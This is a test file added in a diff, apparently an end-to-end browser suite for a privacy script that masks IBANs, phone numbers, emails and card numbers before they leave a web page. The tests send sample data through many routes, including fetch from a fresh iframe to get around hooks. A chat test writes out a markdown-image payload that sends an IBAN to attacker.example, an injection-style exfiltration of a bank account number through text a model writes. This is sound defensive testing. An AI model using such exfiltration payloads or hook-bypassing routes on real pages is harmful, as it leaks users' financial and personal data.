@@ -1,0 +1,393 @@
+// End to end: follow the value, not the route. A page with the bare script tag
+// (www/test/pages/egress.html: nothing marked, guard option at its default) in headless
+// Chromium against the local recording server (www/test/server.mjs). German and
+// English personal data is typed into the fields the default protects, then each
+// route a script can take sends it; the server must never see any of the values, in
+// any spelling, in any URL, body or frame — while an unprotected contact field's own
+// native submission still carries what was typed.
+//   node www/test/egress.e2e.mjs
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { after, before, test } from 'node:test';
+import { www } from './helpers.mjs';
+import { launchChromium } from './chromium.mjs';
+import { startServer } from './server.mjs';
+
+const V = {
+  name: 'Maria Huber',
+  iban: 'DE89 3704 0044 0532 0130 00',
+  phone: '+43 664 1234567',
+  email: 'maria.huber@example.at',
+  card: '4111 1111 1111 1111',
+  emailEn: 'jane.doe@example.co.uk',
+};
+const MSG = `Guten Tag, hier ist ${V.name}. Bitte überweisen Sie auf ${V.iban}, `
+  + `mobil ${V.phone}, E-Mail ${V.email}, Karte ${V.card}. Thanks, reach me at ${V.emailEn}.`;
+
+let server, other, context, page;
+const problems = [];
+
+/** Every spelling of `v` a request could carry it in (compared without case). */
+function spellingsOf(v) {
+  const compact = v.replace(/[\s\-./()]/g, '');
+  const s = new Set([v, v.replace(/\s+/g, ''), compact, encodeURIComponent(v), new URLSearchParams([['', v]]).toString().slice(1),
+    JSON.stringify(v).slice(1, -1), encodeURIComponent(compact)]);
+  return [...s].map((x) => x.toLowerCase());
+}
+function safeDecode(s) {
+  try { return decodeURIComponent(s.replace(/\+/g, ' ')); } catch { return s; }
+}
+const seen = (recs) => recs.map((r) => `${r.url || r.path}\n${r.body}`).join('\n');
+/** Fails if any recorded URL, body or frame (both servers) holds one of `values`. */
+function assertNoLeak(values, where = '') {
+  const all = [...server.recorded, ...other.recorded];
+  const text = seen(all);
+  const hay = `${text}\n${safeDecode(text)}`.toLowerCase();
+  for (const v of values) {
+    for (const sp of spellingsOf(v)) assert.ok(!hay.includes(sp), `${where}: the server received ${JSON.stringify(v)} (as ${JSON.stringify(sp)})`);
+  }
+}
+async function waitRecorded(pred, what, srv = server) {
+  for (let i = 0; i < 80; i++) {
+    const r = srv.recorded.find(pred);
+    if (r) return r;
+    await new Promise((res) => setTimeout(res, 100));
+  }
+  return assert.fail(`not recorded: ${what}`);
+}
+const named = (...v) => v; // the values a test asserts
+
+async function open(query = '') {
+  server.reset();
+  other.reset();
+  page = await context.newPage();
+  page.on('console', (m) => { if (m.type() === 'error' && !/EventSource|WebSocket|Failed to load resource|net::/.test(m.text())) problems.push(`console: ${m.text()}`); });
+  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
+  await page.goto(server.url + 'test/pages/egress.html' + query);
+  await page.waitForFunction(() => window.PiiVeil && window.PiiVeil.page && window.PiiVeil.page.state === 'ready');
+  return page;
+}
+const type = async (sel, text) => { await page.click(sel); await page.keyboard.insertText(text); };
+const detected = (value) => page.evaluate((v) => window.PiiVeil.scan(`x ${v} x`).some((f) => f.text === v), value);
+
+before(async () => {
+  server = await startServer();
+  other = await startServer(); // another origin
+  context = await launchChromium();
+  for (const p of context.pages()) await p.close().catch(() => {});
+});
+after(async () => {
+  if (context) await context.close();
+  if (server) await server.close();
+  if (other) await other.close();
+});
+
+test('bare script tag, unmarked form: the free text is masked, the contact field sends what was typed, a hidden copy is masked', async () => {
+  await open();
+  const fields = await page.evaluate(() => window.PiiVeil.page.fields().map((e) => e.id));
+  assert.ok(fields.includes('c-msg') && fields.includes('c-note') && fields.includes('chat-input'), `protected: ${fields}`);
+  assert.ok(!fields.includes('c-email') && !fields.includes('c-name'), 'a form\'s own contact fields are left to the form');
+  await type('#c-name', V.name);
+  await type('#c-email', V.email);
+  await type('#c-msg', MSG);
+  // the page copies the visible text into a hidden input before sending
+  await page.evaluate(() => document.getElementById('contact').addEventListener('submit', () => {
+    document.getElementById('c-copy').value = document.getElementById('c-msg').value;
+  }));
+  await page.click('#c-send');
+  const r = await waitRecorded((x) => x.path === '/api/contact', 'contact form');
+  const body = new URLSearchParams(r.body);
+  assert.equal(body.get('email'), V.email, 'the contact field\'s own submission carries what was typed');
+  assert.equal(body.get('name'), V.name);
+  for (const k of ['message', 'copy']) {
+    const v = body.get(k);
+    for (const x of [V.iban, V.phone, V.card, V.emailEn]) assert.ok(!v.includes(x) && !v.includes(x.replace(/ /g, '')), `${k} carries a value`);
+    assert.match(v, /\[IBAN\]/);
+  }
+  assert.equal(await page.inputValue('#c-msg'), MSG, 'the field keeps what was typed');
+  await page.close();
+});
+
+test('fetch(new Request(url, { body: FormData })) with a hidden copy and a file entry', async () => {
+  await open();
+  await type('#chat-input', MSG);
+  await page.evaluate(async () => {
+    const v = document.getElementById('chat-input').value;
+    const fd = new FormData();
+    fd.append('message', v);
+    fd.append('copy', v);
+    fd.append('attachment', new File([v], 'note.txt', { type: 'text/plain' }));
+    await fetch(new Request('/api/request', { method: 'POST', body: fd }));
+  });
+  const r = await waitRecorded((x) => x.path === '/api/request', 'Request with FormData');
+  assert.match(r.body, /\[IBAN\]/);
+  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'Request(FormData)');
+  await page.close();
+});
+
+test('Blob, File, ArrayBuffer, TextEncoder output, DataView bodies; XHR, beacon and binary WebSocket frames', async () => {
+  await open();
+  await type('#chat-input', MSG);
+  await page.evaluate(async () => {
+    const v = document.getElementById('chat-input').value;
+    const bytes = new TextEncoder().encode(JSON.stringify({ message: v }));
+    await fetch('/api/blob', { method: 'POST', body: new Blob([v]) });
+    await fetch('/api/file', { method: 'POST', body: new File([v], 'x.bin') });
+    await fetch('/api/u8', { method: 'POST', body: bytes });
+    await fetch('/api/ab', { method: 'POST', body: bytes.buffer });
+    await fetch('/api/dv', { method: 'POST', body: new DataView(bytes.buffer) });
+    await new Promise((res) => { const x = new XMLHttpRequest(); x.open('POST', '/api/xhr'); x.onloadend = res; x.send(bytes.buffer); });
+    navigator.sendBeacon('/api/beacon', new Blob([v]));
+    await new Promise((res) => {
+      const ws = new WebSocket(location.origin.replace('http', 'ws') + '/ws/bin');
+      ws.binaryType = 'arraybuffer';
+      ws.onopen = () => { ws.send(bytes); ws.send(new Blob([v])); ws.send(v); };
+      let n = 0;
+      ws.onmessage = () => { if (++n === 3) { ws.close(); res(); } };
+    });
+  });
+  for (const p of ['/api/blob', '/api/file', '/api/u8', '/api/ab', '/api/dv', '/api/xhr', '/api/beacon']) await waitRecorded((x) => x.path === p, p);
+  assert.equal(server.recorded.filter((x) => x.method === 'WS').length, 3);
+  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'binary bodies');
+  assert.match(server.recorded.find((x) => x.path === '/api/u8').body, /\[IBAN\]/, 'masked, not dropped');
+  await page.close();
+});
+
+test('JSON: a card number as a JSON number, values as JSON keys', async () => {
+  await open();
+  await type('#chat-input', `Karte ${V.card}, ${V.email}`);
+  await page.evaluate(async () => {
+    await fetch('/api/json', {
+      method: 'POST', headers: { 'content-type': 'application/json' },
+      body: `{"card":4111111111111111,"maria.huber@example.at":true,"n":[4111111111111111]}`,
+    });
+  });
+  const r = await waitRecorded((x) => x.path === '/api/json', 'JSON');
+  const sent = JSON.parse(r.body); // still JSON: the number became a string placeholder
+  assert.match(sent.card, /^\[/);
+  assertNoLeak(named(V.card, V.email), 'JSON');
+  await page.close();
+});
+
+test('URL queries: fetch, XHR, Image, EventSource, WebSocket URL, iframe, beacon, another origin', async () => {
+  await open('?csp=off');
+  await type('#chat-input', MSG);
+  const otherOrigin = other.url.replace(/\/$/, '');
+  await page.evaluate(() => {
+    window.__masked = [];
+    document.addEventListener('pii-veil:masked', (e) => window.__masked.push(e.detail));
+  });
+  await page.evaluate(async (o) => {
+    const v = document.getElementById('chat-input').value;
+    const iban = v.match(/DE89[\d ]+\d/)[0];
+    const q = encodeURIComponent(iban);
+    await fetch('/api/q?m=' + q);
+    await fetch(new URL('/api/qurl?m=' + iban.replace(/ /g, ''), location.href));
+    await new Promise((res) => { const x = new XMLHttpRequest(); x.open('GET', '/api/xq?iban=' + iban.replace(/ /g, '+')); x.onloadend = res; x.send(); });
+    const img = new Image();
+    img.src = '/api/pixel?d=' + q;
+    const img2 = document.createElement('img');
+    img2.setAttribute('src', '/api/pixel2?d=' + q);
+    document.body.appendChild(img2);
+    const es = new EventSource('/api/events?d=' + q);
+    setTimeout(() => es.close(), 500);
+    const ws = new WebSocket(location.origin.replace('http', 'ws') + '/ws/q?d=' + q);
+    ws.onopen = () => ws.close();
+    const f = document.createElement('iframe');
+    f.src = '/api/frame?d=' + q;
+    document.body.appendChild(f);
+    navigator.sendBeacon('/api/bq?d=' + q, 'x');
+    await fetch(o + '/api/cross?d=' + q, { method: 'POST', mode: 'no-cors', body: v });
+  }, otherOrigin);
+  for (const p of ['/api/q', '/api/qurl', '/api/xq', '/api/pixel', '/api/pixel2', '/api/events', '/api/frame', '/api/bq']) await waitRecorded((x) => x.path === p, p);
+  await waitRecorded((x) => x.method === 'UPGRADE', 'WebSocket URL');
+  await waitRecorded((x) => x.path === '/api/cross', 'another origin', other);
+  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'URL queries');
+  // the page is told, with counts per kind and never a value
+  const masked = await page.evaluate(() => window.__masked);
+  for (const via of ['fetch', 'xhr', 'url', 'websocket', 'beacon']) assert.ok(masked.some((d) => d.via === via && d.counts.iban >= 1), `pii-veil:masked via ${via}`);
+  assert.ok(!JSON.stringify(masked).includes('3704'), 'no value in an event');
+  await page.close();
+});
+
+test('form routes: a field moved into another form, type="txt", type="number" holding a card', async () => {
+  await open();
+  // moved after attaching: c-note belonged to #contact
+  await page.evaluate(() => document.getElementById('other').appendChild(document.getElementById('c-note')));
+  await type('#c-note', `IBAN ${V.iban}`);
+  await type('#weird', `Ruf an: ${V.phone}`);
+  await page.fill('#num', V.card.replace(/ /g, ''));
+  const fields = await page.evaluate(() => window.PiiVeil.page.fields().map((e) => e.id));
+  assert.ok(fields.includes('weird') && fields.includes('num'), `type="txt" and type="number" are protected: ${fields}`);
+  await page.click('#o-send');
+  const r = await waitRecorded((x) => x.path === '/api/other', 'other form');
+  const body = new URLSearchParams(r.body);
+  assert.equal(body.get('ref'), 'T-1');
+  assert.match(body.get('note'), /\[IBAN\]/);
+  // a GET form: the entries become the query string
+  await page.evaluate(() => {
+    const f = document.getElementById('other');
+    f.method = 'get';
+    f.action = '/api/other-get';
+    f.requestSubmit();
+  });
+  const g = await waitRecorded((x) => x.path === '/api/other-get', 'GET form');
+  assert.match(new URL(g.url, server.url).searchParams.get('note'), /\[IBAN\]/);
+  assertNoLeak(named(V.iban, V.phone, V.card), 'form routes');
+  await page.close();
+});
+
+test('policy block applies to an input without a name (a framework sends it itself)', async () => {
+  await open();
+  await page.evaluate(() => {
+    window.__sent = 0;
+    window.__blocked = 0;
+    document.addEventListener('pii-veil:blocked', () => { window.__blocked++; });
+    document.getElementById('react').addEventListener('submit', (e) => {
+      e.preventDefault();
+      window.__sent++;
+    });
+  });
+  await type('#r-input', `IBAN ${V.iban}`);
+  await page.click('#r-send');
+  await page.waitForFunction(() => window.__blocked > 0);
+  assert.equal(await page.evaluate(() => window.__sent), 0, 'the page\'s own submit handler never ran');
+  assert.equal(await page.locator('#react [role=alert]').count(), 1);
+  await page.close();
+});
+
+test('a controlled input cleared through its own value property (as React does) drops its highlights', async () => {
+  await open();
+  await page.evaluate(() => {
+    // React defines `value` on the element instance, over the prototype's setter
+    const el = document.getElementById('controlled');
+    const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
+    Object.defineProperty(el, 'value', { configurable: true, get() { return d.get.call(this); }, set(v) { d.set.call(this, v); } });
+  });
+  await type('#controlled', `IBAN ${V.iban}`);
+  const badge = page.locator('#controlled ~ .pii-veil-badge, .pii-veil-badge[data-for="controlled"]');
+  await page.waitForFunction(() => [...document.querySelectorAll('.pii-veil-badge')].some((b) => !b.hidden));
+  await page.evaluate(() => { document.getElementById('controlled').value = ''; });
+  await page.waitForFunction(() => [...document.querySelectorAll('.pii-veil-badge')].every((b) => b.hidden));
+  assert.equal(await badge.count() >= 0, true);
+  await page.close();
+});
+
+test('chat: a markdown image the model wrote keeps its placeholder; plain text is restored', async () => {
+  await open();
+  const inj = `Meine IBAN ist ${V.iban}. ![x](https://attacker.example/?d=${V.iban.replace(/ /g, '')})`;
+  await type('#chat-input', inj);
+  const reply = await page.evaluate(async () => {
+    const r = await fetch('/api/bot', {
+      method: 'POST', headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ message: document.getElementById('chat-input').value }),
+    });
+    return (await r.json()).reply;
+  });
+  const sent = await waitRecorded((x) => x.path === '/api/bot', 'bot request');
+  assert.ok(!sent.body.includes(V.iban) && !sent.body.includes(V.iban.replace(/ /g, '')), 'the bot never sees the IBAN');
+  const target = /\]\(([^)]*)\)/.exec(reply)[1];
+  assert.ok(!target.includes('3704'), `the URL keeps its placeholder: ${target}`);
+  assert.match(target, /\[IBAN_1(?:_ALT)?\]/);
+  assert.ok(reply.replace(/\]\([^)]*\)/, '').includes(V.iban), 'plain text gets the real value back');
+  await page.close();
+});
+
+test('shadow DOM: fields of open and closed shadow roots are protected, their forms masked', async () => {
+  await open();
+  await page.evaluate(() => {
+    const form = (path) => `<form action="${path}" method="post" target="sink"><textarea name="msg"></textarea><button>Send</button></form>`;
+    customElements.define('x-open', class extends HTMLElement {
+      connectedCallback() { if (!this.shadowRoot) this.attachShadow({ mode: 'open' }).innerHTML = form('/api/shadow-open'); }
+    });
+    customElements.define('x-closed', class extends HTMLElement {
+      constructor() { super(); window.__closed = this.attachShadow({ mode: 'closed' }); window.__closed.innerHTML = form('/api/shadow-closed'); }
+    });
+    document.body.append(document.createElement('x-open'), document.createElement('x-closed'));
+  });
+  await page.click('x-open textarea');
+  await page.keyboard.insertText(`IBAN ${V.iban}`);
+  await page.evaluate((v) => {
+    const ta = window.__closed.querySelector('textarea');
+    ta.value = `Tel. ${v}`;
+    ta.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true }));
+  }, V.phone);
+  await page.waitForFunction(() => window.PiiVeil.page.fields().filter((e) => e.tagName === 'TEXTAREA' && e.getRootNode() !== document).length === 2);
+  // one after the other: both forms post into the same frame
+  await page.evaluate(() => document.querySelector('x-open').shadowRoot.querySelector('form').requestSubmit());
+  const o = await waitRecorded((x) => x.path === '/api/shadow-open', 'open shadow root form');
+  await page.evaluate(() => window.__closed.querySelector('form').requestSubmit());
+  await waitRecorded((x) => x.path === '/api/shadow-closed', 'closed shadow root form');
+  assert.match(new URLSearchParams(o.body).get('msg'), /\[IBAN\]/);
+  assertNoLeak(named(V.iban, V.phone), 'shadow DOM');
+  await page.close();
+});
+
+test('same-origin frames: a fresh fetch taken from an about:blank frame, a loaded frame\'s XHR', async () => {
+  await open();
+  await type('#chat-input', MSG);
+  await page.evaluate(async () => {
+    const v = document.getElementById('chat-input').value;
+    const blank = document.createElement('iframe');
+    document.body.appendChild(blank);
+    const cleanFetch = blank.contentWindow.fetch; // a way around hooks on the page's own fetch
+    await cleanFetch('/api/frame-fetch', { method: 'POST', body: v });
+    // bodies of another realm: the page's Blob and bytes through the frame's fetch, the frame's Request through the page's
+    await cleanFetch('/api/frame-blob', { method: 'POST', body: new Blob([v]) });
+    await cleanFetch('/api/frame-u8', { method: 'POST', body: new TextEncoder().encode(v) });
+    await fetch(new blank.contentWindow.Request('/api/frame-request', { method: 'POST', body: new blank.contentWindow.Blob([v]) }));
+    const loaded = document.createElement('iframe');
+    loaded.srcdoc = '<p>a frame of the same origin</p>';
+    await new Promise((res) => { loaded.onload = res; document.body.appendChild(loaded); });
+    await new Promise((res) => {
+      const x = new loaded.contentWindow.XMLHttpRequest();
+      x.open('POST', '/api/frame-xhr?m=' + encodeURIComponent(v));
+      x.onloadend = res;
+      x.send(new loaded.contentWindow.Blob([v]));
+    });
+  });
+  for (const p of ['/api/frame-fetch', '/api/frame-blob', '/api/frame-u8', '/api/frame-request']) await waitRecorded((x) => x.path === p, p);
+  await waitRecorded((x) => x.path === '/api/frame-xhr', 'frame XHR');
+  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'frames');
+  await page.close();
+});
+
+test('inline bootstrap: a submit and a fetch made before pii-veil.js arrived wait for it and go out masked', async () => {
+  server.reset();
+  other.reset();
+  const boot = readFileSync(join(www, 'dist', 'bootstrap.min.js'), 'utf8');
+  const hash = readFileSync(join(www, 'dist', 'bootstrap.csp'), 'utf8').trim();
+  page = await context.newPage();
+  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
+  const url = server.url + 'test/pages/boot.html';
+  await page.route(url, (route) => route.fulfill({
+    contentType: 'text/html; charset=utf-8',
+    headers: { 'content-security-policy': `default-src 'self'; script-src 'self' 'wasm-unsafe-eval' ${hash}; connect-src 'self'; worker-src 'self'; style-src 'self'` },
+    body: `<!doctype html><html lang="en"><head><meta charset="utf-8"><script>${boot}</script>`
+      + '<script src="/dist/pii-veil.js" data-protect async></script><title>boot</title></head><body>'
+      + '<form id="f" action="/api/boot-form" method="post" target="sink"><textarea id="msg" name="message"></textarea><button id="send">Send</button></form>'
+      + '<iframe name="sink" title="result"></iframe></body></html>',
+  }));
+  let release;
+  const late = new Promise((res) => { release = res; });
+  await page.route('**/dist/pii-veil.js', async (route) => { await late; await route.continue(); });
+  await page.goto(url, { waitUntil: 'domcontentloaded' });
+  assert.equal(await page.evaluate(() => typeof window.PiiVeil), 'undefined', 'pii-veil.js has not arrived');
+  await page.fill('#msg', MSG);
+  await page.click('#send');
+  await page.evaluate(() => { window.__status = fetch('/api/boot-fetch', { method: 'POST', body: document.getElementById('msg').value }).then((r) => r.status); });
+  await new Promise((res) => setTimeout(res, 500));
+  assert.equal(server.recorded.filter((x) => x.path.startsWith('/api/boot')).length, 0, 'held while pii-veil is missing');
+  release();
+  await waitRecorded((x) => x.path === '/api/boot-fetch', 'held fetch');
+  const form = await waitRecorded((x) => x.path === '/api/boot-form', 'held submit');
+  assert.equal(await page.evaluate(() => window.__status), 200);
+  assert.match(new URLSearchParams(form.body).get('message'), /\[IBAN\]/);
+  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'bootstrap');
+  await page.close();
+});
+
+test('no console errors or page errors', () => {
+  assert.deepEqual(problems, []);
+});
